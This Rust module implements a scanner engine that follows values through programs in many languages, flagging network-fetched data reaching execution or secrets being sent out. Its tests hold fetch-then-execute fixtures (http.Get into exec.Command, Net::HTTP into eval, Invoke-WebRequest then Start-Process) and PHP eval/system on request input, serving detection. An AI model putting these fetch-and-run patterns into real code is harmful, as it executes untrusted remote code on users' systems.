//! Where values go in programs of languages that no parser here reads: what is fetched and run, what is secret and sent.
//!
//! One engine follows them in all languages alike, by names, texts and brackets. How a language is written and what functions of
//! its libraries do are data of the rule files.

mod expression;
mod facts;
mod follow;
mod language;
mod reach;
mod scopes;
mod token;
mod value;

pub(in crate::bundles) use facts::{FlowDef, FlowFacts};
pub(in crate::bundles) use follow::{Followed, Reach, To, World};
pub(in crate::bundles) use language::Tongue;
pub(in crate::bundles) use value::Source;

/// Largest program that is followed, in bytes.
pub(in crate::bundles) const PROGRAM_BYTES_MAX: usize = 1 << 20;

/// Follows the values of a program.
pub(in crate::bundles) fn follow(text: &str, tongue: &Tongue, world: &World<'_>) -> Followed {
    if text.len() > PROGRAM_BYTES_MAX {
        return Followed::default();
    }
    let tokens = token::tokens(text, tongue);
    let lower = text.to_lowercase();
    if !world.facts.may_reach(tongue, &tokens, &lower) {
        return Followed { is_whole: tokens.len() < token::TOKENS_MAX, ..Followed::default() };
    }
    let scopes = scopes::Scopes::of(&tokens, tongue, text);
    let mut followed = follow::Follower::new(world, tongue, &tokens, &scopes, &lower).follow();
    followed.found.sort_by_key(|reach| (reach.at, reach.to));
    followed.is_whole &= tokens.len() < token::TOKENS_MAX;
    followed
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bundles::rules::BundleRules;

    fn followed(language: &str, text: &str) -> Followed {
        let rules = BundleRules::builtin();
        let tongue = rules.flows().tongue(language).expect("there is one");
        let is_secret = |path: &str| rules.is_private_place(path);
        follow(text, tongue, &World { facts: rules.flows(), is_secret: &is_secret })
    }

    #[test]
    fn values_are_told_apart_by_the_functions_that_they_stand_in() {
        for (language, text, wanted) in [
            (
                "go",
                "func a() { r, _ := http.Get(\"https://h.example\"); b, _ := io.ReadAll(r.Body); use(b) }\nfunc c(b string) { exec.Command(\"sh\", \"-c\", b).Run() }",
                0,
            ),
            (
                "go",
                "type S struct{}\nfunc (s *S) a() { r, _ := http.Get(\"https://h.example\"); s.code = r.Body }\nfunc (s *S) b() { exec.Command(\"sh\", \"-c\", s.code).Run() }",
                1,
            ),
            (
                "go",
                "var t Task\nr, _ := http.Get(\"https://h.example\")\njson.NewDecoder(r.Body).Decode(&t)\nexec.Command(\"sh\", \"-c\", t.Cmd).Run()",
                1,
            ),
            (
                "ruby",
                "def a\n  Net::HTTP.get(URI('https://h.example'))\nend\ndef b(x)\n  eval x\nend\nb(a)",
                1,
            ),
            (
                "ruby",
                "def a(x)\n  x = Net::HTTP.get(URI('https://h.example'))\nend\ndef b(x)\n  eval x\nend\nb('1')",
                0,
            ),
            (
                "rust",
                "for c in ['\"', '\\''] { a(c) }\nlet b = ureq::get(\"https://h.example\").call()?;\nCommand::new(\"sh\").args([\"-c\", &b]).spawn()?;",
                1,
            ),
            ("php", "<?php // eval($_GET['x']);\n# system($_GET['x']);\necho \"eval(\\$_GET['x'])\";", 0),
            (
                "csharp",
                "static string A() => new WebClient().DownloadString(\"https://h.example\");\nstatic void B() { Process.Start(\"cmd.exe\", $\"/c {A()}\"); }",
                1,
            ),
            (
                "powershell",
                "Invoke-WebRequest https://h.example/a.exe -OutFile a.exe\nStart-Process a.exe",
                1,
            ),
            (
                "powershell",
                "Invoke-WebRequest https://h.example/a.txt -OutFile a.txt\nStart-Process b.exe",
                0,
            ),
        ] {
            assert_eq!(usize::from(!followed(language, text).found.is_empty()), wanted, "{text}");
        }
    }

    #[test]
    fn programs_that_nest_or_never_close_cost_no_more_than_their_length() {
        let begin = "<?php file_get_contents('http://h.example'); eval(1); system('a');\n";
        for piece in [
            "(",
            "{",
            "[a,",
            "a(",
            "a{b",
            "$a=",
            "$a->b",
            "$a[$b]",
            "if(1)",
            "=> a",
            "function a(",
            "'\\",
            "\"${",
            "`",
            "x(){",
            "foreach($a as $b) ",
            "'",
            "/*",
            "a ? b : ",
            "return ",
        ] {
            let text = format!("{begin}{}", piece.repeat(5_000));
            let looks = followed("php", &text).looks;
            assert!(looks < 40 * text.len(), "{piece}: {looks} looks at {} bytes", text.len());
        }
    }

    #[test]
    fn broken_programs_of_any_language_are_followed_to_places_in_them() {
        const ODD: [&str; 16] = [
            "İ", "é", "\u{0}", "\\", "\"", "'", "`", "${", "#{", "}", ")", "\r\n", "<?php", "=>", "\u{2028}",
            "://",
        ];
        let programs = include_str!("../../../rules/bundles/flow_rules.toml");
        let rules = BundleRules::builtin();
        let is_secret = |path: &str| rules.is_private_place(path);
        let world = World { facts: rules.flows(), is_secret: &is_secret };
        // The same on every run.
        let mut state = 5_u64;
        let mut next = move |below: usize| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            usize::try_from(state >> 33).expect("small") % below.max(1)
        };
        let mut reached = 0;
        for tongue in rules.flows().tongues() {
            for _ in 0..40 {
                let mut text = String::new();
                for _ in 0..=next(6) {
                    let from = programs.floor_char_boundary(next(programs.len()));
                    let to = programs.floor_char_boundary((from + next(400)).min(programs.len()));
                    text.push_str(&programs[from..to.max(from)]);
                    text.push_str(ODD[next(ODD.len())]);
                }
                for reach in follow(&text, tongue, &world).found {
                    assert!(text.is_char_boundary(reach.at), "{} of {text:?}", reach.at);
                    reached += 1;
                }
            }
        }
        assert!(reached > 0, "some of them reach something");
    }
}
